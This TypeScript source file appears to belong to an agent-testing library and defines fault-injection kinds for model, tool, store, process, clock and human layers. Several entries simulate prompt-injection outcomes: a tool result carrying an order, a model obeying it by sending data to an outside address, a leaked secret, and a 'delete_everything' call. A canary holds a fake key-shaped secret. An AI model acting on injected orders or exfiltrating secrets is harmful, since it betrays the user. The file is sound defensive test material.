// Every kind of fault, as data: what it is called, what it is in one line, in which layer it strikes, and how. A kind does
// not know where it will strike: that is the plan's. Kinds of your own are made in the same way (`defineFault`).

import type { Json } from '../core/json.ts'
import type { ScriptAnswer } from '../providers/scripted.ts'

/** Where a fault strikes. */
export type Layer = 'model' | 'tool' | 'store' | 'process' | 'clock' | 'human'

/** What a model's fault may look at. */
export interface ModelMoment {
  /** One of a list, by the seed. */
  pick<T>(list: readonly T[]): T
  /** How long until the engine stops waiting for the answer, in ms. */
  readonly leftMs: number
  /** Tools of the agent that are not on offer here, and exits that are; what else is on offer. */
  readonly elsewhere: readonly string[]
  readonly exits: readonly string[]
  readonly tools: readonly string[]
}

/** What a model does instead of answering as it would. `stubborn`: it goes on when it is called off, and answers late. */
export type FaultyAnswer = ScriptAnswer & { readonly stubborn?: true }

/** What a tool's fault may do. */
export interface ToolMoment {
  pick<T>(list: readonly T[]): T
  /** Does what was asked for, as the tool would; answers as it would. */
  act(): Promise<Json>
  /** Which try of the step this is, from 1. */
  readonly attempt: number
  /** Waits by the clock of the world. */
  sleep(ms: number): Promise<void>
  /** Words that give an order, where the campaign has any. */
  readonly order: string
}

/** How a store fails: what a caller sees, and whether anything was written. */
export type StoreFault =
  | { readonly code: 'STORE_FAILED' | 'STORE_LOCKED' | 'STORE_FULL' | 'STORE_READ_ONLY'; readonly written: boolean }
  /** Somebody else is at the same task: when they have written, or have been waited for so long, it fails, and nothing is written. */
  | { readonly code: 'STORE_LOCKED'; readonly yieldsMs: number }
  /** It fails for so long, whatever it is asked. */
  | { readonly code: 'STORE_FAILED' | 'STORE_LOCKED' | 'STORE_FULL'; readonly awayMs: number }
  | { readonly slowMs: number }

/** What happens to the process that works. */
export type ProcessFault = 'crash-before' | 'crash-after' | 'stop' | 'stall' | 'freeze' | 'twin'

/** What people do. */
export type HumanFault = 'twice' | 'late' | 'other-arguments' | 'disagree' | 'crash' | 'forged'

/** A kind of fault. One without a way to strike says where it is shown instead. */
export type FaultKind = { readonly id: string; readonly what: string } & (
  | { readonly layer: 'model'; readonly act: (answer: ScriptAnswer, moment: ModelMoment) => FaultyAnswer }
  | { readonly layer: 'tool'; readonly act: (moment: ToolMoment) => unknown }
  | { readonly layer: 'store'; readonly fails: StoreFault }
  | { readonly layer: 'process'; readonly happens: readonly ProcessFault[] }
  | { readonly layer: 'clock'; readonly skewsMs: readonly number[] }
  | { readonly layer: 'human'; readonly does: HumanFault }
  | { readonly layer: Layer; readonly elsewhere: string }
)

/** Declares a kind of fault of your own. Its identifier must not be one of ours. */
export function defineFault(kind: FaultKind): FaultKind {
  return Object.freeze(kind)
}

type Act = Extract<FaultKind, { layer: 'model'; act: unknown }>['act']
type ToolAct = Extract<FaultKind, { layer: 'tool'; act: unknown }>['act']

const model = (id: string, what: string, act: Act): FaultKind => ({ id, what, layer: 'model', act })
const tool = (id: string, what: string, act: ToolAct): FaultKind => ({ id, what, layer: 'tool', act })
const store = (id: string, what: string, fails: StoreFault): FaultKind => ({ id, what, layer: 'store', fails })
const process = (id: string, what: string, ...happens: ProcessFault[]): FaultKind => {
  return { id, what, layer: 'process', happens }
}
const human = (id: string, what: string, does: HumanFault): FaultKind => ({ id, what, layer: 'human', does })
const elsewhere = (id: string, layer: Layer, what: string, where: string): FaultKind => {
  return { id, what, layer, elsewhere: where }
}

const error = (status: number, body: string, headers: Readonly<Record<string, string>> = {}): ScriptAnswer => {
  return { status, body, headers }
}
const bodies = ['{"error":{"message":"overloaded"}}', '<html><h1>Bad gateway</h1></html>', '', '{"error":{"mess']
const hourMs = 3_600_000
const hugeChars = 2_000_000
const letters = 'abcdefghijklmnopqrstuvwxyz'.split('')
const never = (): Promise<never> => new Promise(() => undefined)

/** A call in place of what the model would have said. */
const calls = (name: string, input: Json = {}): ScriptAnswer => ({ calls: [{ name, arguments: input }] })

/** The answer with its first call changed; without one, prose. */
function bend(answer: ScriptAnswer, change: (call: { name: string; arguments?: Json }) => object): ScriptAnswer {
  const [first, ...rest] = answer.calls ?? []
  return first ? { ...answer, calls: [{ ...first, ...change(first) }, ...rest] } : answer
}

/** The kinds that every machine is tried with, by layer. */
export const faultKinds: readonly FaultKind[] = [
  model('M01', 'answers after 30 seconds', (answer) => ({ ...answer, delayMs: 30_000 })),
  model('M02', 'never answers', () => ({ hang: true })),
  model('M03', 'the connection is reset before the first byte', () => ({ drop: 'before' })),
  model('M04', 'the connection is reset in the middle of the answer', () => ({ drop: 'middle' })),
  model('M05', '500, 502, 503 or 529, as JSON, HTML, empty or cut', (_, { pick }) =>
    error(pick([500, 502, 503, 529]), pick(bodies)),
  ),
  model('M06', '429 with a retry-after that is fair, negative, nonsense or far away', (_, { pick }) =>
    error(429, '{}', { 'retry-after': pick(['2', '-5', 'soon', '99999999', '0.5']) }),
  ),
  model('M07', '429 that means the money is spent', () => error(429, '{"error":{"code":"insufficient_quota"}}')),
  model('M08', '401 or 403', (_, { pick }) => error(pick([401, 403]), '{"error":{"message":"bad key"}}')),
  model('M09', '400: the request is larger than the window', () =>
    error(400, '{"error":{"code":"context_length_exceeded","message":"maximum context length"}}'),
  ),
  model('M10', 'an answer without a choice', () => ({ finish: 'other' })),
  model('M11', 'arguments that are not JSON', (answer) => bend(answer, () => ({ raw: '{"a": tru' }))),
  model('M12', 'good arguments, but the answer was cut for its length', (answer) => ({ ...answer, finish: 'length' })),
  model('M13', 'asks for a tool that nobody has', () => calls('delete_everything', { sure: true })),
  model('M14', 'asks for a tool without a name', () => calls('')),
  model('M15', 'arguments of wrong types, missing or extra', (answer, { pick }) =>
    bend(answer, () => ({ arguments: pick<Json>([[], 7, { unheard: 'of' }, 'text']) })),
  ),
  model('M16', 'the same call twice under one id', (answer) => {
    const [first] = answer.calls ?? []
    return first
      ? {
          ...answer,
          calls: [
            { ...first, id: 'same' },
            { ...first, id: 'same' },
          ],
        }
      : answer
  }),
  model('M17', 'asks for a tool that is not allowed here', (_, moment) =>
    calls(moment.elsewhere[0] ?? 'restart_everything'),
  ),
  model('M18', 'takes an exit that is not declared', () => calls('EVERYTHING_IS_FINE', { done: true })),
  model('M19', 'takes two exits in one answer', (answer, { exits }) => {
    const two = exits.length > 1 ? exits.slice(0, 2) : [exits[0] ?? 'DONE', 'ALL_DONE']
    return { ...answer, calls: two.map((name) => ({ name, arguments: {} })) }
  }),
  model('M20', 'usage that is missing, negative, a text or infinite', (answer, { pick }) => ({
    ...answer,
    usage: pick<Record<string, unknown>>([
      {},
      { inputTokens: -5, outputTokens: -5 },
      { inputTokens: 'many', outputTokens: 'few' },
      { inputTokens: Infinity, outputTokens: 1e300 },
    ]),
  })),
  model('M21', 'the answer comes after the deadline', (answer, { leftMs }) => ({
    ...answer,
    delayMs: leftMs + 1_500,
    stubborn: true,
  })),
  model('M22', 'the stream starts again in the middle of a call', (answer) =>
    bend(answer, (call) => ({ raw: JSON.stringify(call.arguments ?? {}).repeat(2) })),
  ),
  model('M23', 'refuses', () => ({ text: 'I cannot help with that.', finish: 'content-filter' })),
  model('M24', 'obeys an order that it has read', (_, { elsewhere: tools, tools: here }) =>
    calls([...tools, ...here].at(-1) ?? 'send_everything', { to: 'eve@elsewhere.example' }),
  ),
  model('M25', 'an error as the body of a 200', () => ({ body: '{"error":{"message":"internal"}}' })),

  tool('T01', 'never settles', never),
  tool('T02', 'always answers "retry"', () => ({ status: 'retry', message: 'Not yet. Please try again.' })),
  tool('T03', 'fails twice, then works', ({ attempt, act }) => {
    if (attempt > 2) return act()
    throw new Error('HTTP 503')
  }),
  tool('T04', 'does it, and the answer is lost', async ({ act }) => {
    await act()
    throw new Error('socket hang up')
  }),
  tool('T05', 'an answer of the wrong shape', async ({ act, pick }) => {
    await act()
    return pick<unknown>([null, 7, [[[]]], 'text', { wrong: { deep: [] } }])
  }),
  tool('T06', 'an answer of 2 million characters', async ({ act, pick }) => {
    await act()
    // Not the same each time, or it would be no progress, and not too much.
    return { text: `${pick(letters)}${pick(letters)} ${'lorem ipsum '.repeat(hugeChars / 12)}` }
  }),
  tool('T07', 'drips one byte a second', async ({ act, sleep }) => {
    const answer = await act()
    await sleep(JSON.stringify(answer).length * 1_000 + 60_000)
    return answer
  }),
  tool('T08', 'the answer holds an order', async ({ act, order }) => {
    await act()
    return { text: order }
  }),
  tool('T09', 'NUL, half of a surrogate pair, text that runs backwards', async ({ act, pick }) => {
    await act()
    return { text: pick(['a\u0000b', 'a\ud800b', '\u202Eabc', '\u0080\u009f']) }
  }),
  elsewhere('T10', 'tool', 'its text has changed since it was agreed to', 'test/core/labels.test.ts: pinned tools'),
  tool('T11', 'throws what is not an error', ({ pick }) => {
    throw pick<unknown>([undefined, 'text', null, { code: 7 }])
  }),
  tool('T12', 'fails as often as its breaker bears', ({ attempt, act }) => {
    if (attempt % 5 === 0) return act()
    throw new Error('HTTP 503')
  }),
  elsewhere(
    'T13',
    'tool',
    'the answer is delivered twice',
    'a promise is settled once; late ones: test/core/limits.test.ts',
  ),
  tool('T14', 'the answer holds a secret', async ({ act }) => {
    await act()
    return { text: canary.secret }
  }),

  store('D01', 'fails before the commit', { code: 'STORE_FAILED', written: false }),
  store('D02', 'commits, and says that it failed', { code: 'STORE_FAILED', written: true }),
  store('D03', 'the connection is lost for five seconds', { code: 'STORE_FAILED', awayMs: 5_000 }),
  store('D04', 'locked by somebody else for 20 seconds', { code: 'STORE_LOCKED', awayMs: 20_000 }),
  store('D05', 'the disk is full for a minute', { code: 'STORE_FULL', awayMs: 60_000 }),
  store('D06', 'fsync fails', { code: 'STORE_FAILED', written: false }),
  store('D07', 'a serialisation failure or a deadlock: it gives way', { code: 'STORE_LOCKED', yieldsMs: 20_000 }),
  store('D08', 'read-only', { code: 'STORE_READ_ONLY', written: false }),
  store('D09', 'restarts: gone for a minute', { code: 'STORE_FAILED', awayMs: 60_000 }),
  elsewhere('D10', 'store', 'a row that nobody can decode', 'test/versions.test.ts, test/store/tamper.test.ts'),
  elsewhere('D11', 'store', 'rows edited, removed, moved', 'test/store/tamper.test.ts: needs a file'),
  elsewhere('D12', 'store', 'a torn write-ahead log', 'needs a file on a disk'),
  store('D13', 'takes five seconds to write', { slowMs: 5_000 }),

  process('P01', 'killed at a write', 'crash-before', 'crash-after'),
  process('P02', 'told to stop', 'stop'),
  process('P03', 'out of memory', 'crash-before'),
  process('P04', 'stands still for longer than its lease', 'stall'),
  process('P05', 'stopped past its lease while another works, and wakes', 'freeze'),
  process('P06', 'two workers at once', 'twin'),
  elsewhere('P07', 'process', 'an old worker meets events of a newer version', 'test/versions.test.ts'),

  {
    id: 'C01',
    what: 'the clock is set an hour or a year on, or an hour back',
    layer: 'clock',
    skewsMs: [hourMs, -hourMs],
  },
  elsewhere('C02', 'clock', 'summer time begins or ends', 'only schedules know time zones: test/cron.test.ts'),
  elsewhere('C03', 'clock', 'the clock stands still', 'the clock of every world here does, between timers'),
  elsewhere('C04', 'clock', 'clocks of worker and database differ', 'test/workers.test.ts: C04'),

  human('H01', 'the same answer twice', 'twice'),
  human('H02', 'an answer after it has expired, or after the task was cancelled', 'late'),
  human('H03', 'an answer for other arguments', 'other-arguments'),
  human('H04', 'two people disagree', 'disagree'),
  human('H05', 'a crash between the answer and the act', 'crash'),
  elsewhere('H06', 'human', 'the state is edited by hand', 'the database refuses it: test/store/tamper.test.ts'),
  human('H07', 'an answer to an item that was never asked, or by somebody who may not', 'forged'),
]

/** Made-up words that must not turn up where they do not belong. */
export const canary = {
  host: 'eve.elsewhere.example',
  secret: ['sk', 'ant', 'api03', 'Zq8'.repeat(16), 'Wd3'.repeat(14) + 'AA'].join('-'),
} as const
